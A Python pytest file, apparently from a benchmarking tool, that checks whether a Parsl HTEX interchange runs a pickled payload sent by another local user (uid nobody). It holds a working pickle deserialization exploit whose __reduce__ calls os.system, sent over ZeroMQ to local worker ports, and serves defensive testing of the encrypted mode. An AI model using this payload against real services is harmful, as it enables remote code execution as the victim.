"""HTEX against another local user (uid ``nobody``): encrypted by default, the interchange
takes nothing from him; unencrypted only with the user's ``--allow-insecure`` (issue 24)."""

from __future__ import annotations

import json
import os
import subprocess
import time
from pathlib import Path

import psutil
import pytest

from attacker import as_nobody, listeners, needs_root, public
from conftest import PERFLAB, ROOT, perflab

#: As nobody: a pickle that runs ``touch PROOF`` when loaded, sent to the interchange's
#: worker port (it unpickles every message a worker pool sends there).
ATTACK = """
class Proof:
    def __reduce__(self):
        return (os.system, (f"touch {PROOF}",))
ctx = zmq.Context()
for port in PORTS:
    s = ctx.socket(zmq.DEALER)
    s.setsockopt(zmq.LINGER, 0)
    s.connect(f"tcp://127.0.0.1:{port}")
    s.send(pickle.dumps({"type": "registration", "x": Proof()}))
    s.send_multipart([b"", pickle.dumps(Proof())])
time.sleep(2)
report(sent=len(PORTS))
"""

RUN = ["run", "--target", "parsl-htex", "--workload", "sleep", "--task-ms", "100",
       "--workers", "1", "--warmup", "0", "--json"]  # fmt: skip


def _attack_live_run(
    tmp_path: Path, *extra: str, finish: bool
) -> tuple[bool, list[tuple[str, int, int]]]:
    """Start a run, attack every listener of its tree once the workers are up; (did the
    pickle run, the listeners seen). ``finish``: the run must still end ok (else it is
    stopped: the attack may well have broken it)."""
    proof = tmp_path / "proof"
    env = {**os.environ, "PYTHONPATH": str(ROOT / "src")}
    proc = subprocess.Popen(
        [*PERFLAB, *RUN, *extra], cwd=tmp_path, env=env, stdout=subprocess.PIPE, text=True
    )
    try:
        socks: list[tuple[str, int, int]] = []
        ports: list[int] = []
        deadline = time.monotonic() + 90
        # wait until the interchange listens for worker pools and a pool exists
        while time.monotonic() < deadline and proc.poll() is None and not ports:
            procs = {p.pid: " ".join(_cmdline(p)) for p in _tree(proc.pid)}
            socks = listeners(proc.pid)
            if any("process_worker_pool" in c for c in procs.values()):
                ports = [port for _, port, pid in socks if "interchange" in procs.get(pid, "")]
            time.sleep(0.2)
        assert ports, f"the interchange never listened: {socks}"
        as_nobody(
            f"PROOF={str(proof)!r}\nPORTS={ports!r}\n" + ATTACK,
            preimport=("zmq", "pickle", "time"),
        )
        # the interchange reads its sockets on its next poll; give it time under load
        deadline = time.monotonic() + 15
        while not proof.exists() and time.monotonic() < deadline and proc.poll() is None:
            time.sleep(0.2)
        ran = proof.exists()
        if finish:
            out, _ = proc.communicate(timeout=120)
            assert json.loads(out)["status"] == "ok"
        return ran, socks
    finally:
        if proc.poll() is None:
            proc.terminate()  # perflab stops its whole tree on SIGTERM
            proc.wait(30)


def _cmdline(p: psutil.Process) -> list[str]:
    try:
        return p.cmdline()
    except psutil.Error:
        return []


def _tree(pid: int) -> list[psutil.Process]:
    try:
        root = psutil.Process(pid)
        return [root, *root.children(recursive=True)]
    except psutil.Error:
        return []


@pytest.mark.slow
@needs_root
def test_the_encrypted_interchange_runs_no_pickle_of_another_user(tmp_path: Path) -> None:
    ran, socks = _attack_live_run(tmp_path, "--tasks", "60", finish=True)
    print(f"HTEX listeners (encrypted): {socks}")
    assert public(socks) == []
    assert not ran, "uid nobody's pickle ran in the encrypted run"


@pytest.mark.slow
@needs_root
def test_the_unencrypted_opt_in_is_what_lets_him_in(tmp_path: Path) -> None:
    """The risk --allow-insecure accepts, shown: the same pickle runs code as the user."""
    # long enough (a minute of tasks) that a loaded machine cannot end the run before the
    # attack lands; it is stopped as soon as the proof is seen
    ran, socks = _attack_live_run(
        tmp_path, "--tasks", "600", "--treat", "cfg_unencrypted", "--allow-insecure",
        finish=False,
    )  # fmt: skip
    print(f"HTEX listeners (unencrypted): {socks}")
    assert public(socks) == []
    assert ran, "expected the unencrypted interchange to unpickle the attacker's message"


def test_an_unencrypted_run_without_the_opt_in_is_refused_before_anything_runs(
    tmp_path: Path,
) -> None:
    for how in (["--treat", "cfg_unencrypted"], ["--opt", "encrypted=false"]):
        r = perflab(*RUN, "--tasks", "5", *how, cwd=tmp_path)
        assert r.returncode == 2, r.stderr
        lines = r.stderr.strip().splitlines()
        assert len(lines) == 1 and "--allow-insecure" in lines[0] and "unencrypted" in lines[0]
        assert not (tmp_path / ".perflab").exists() or not any(
            (tmp_path / ".perflab").rglob("*.db")
        )
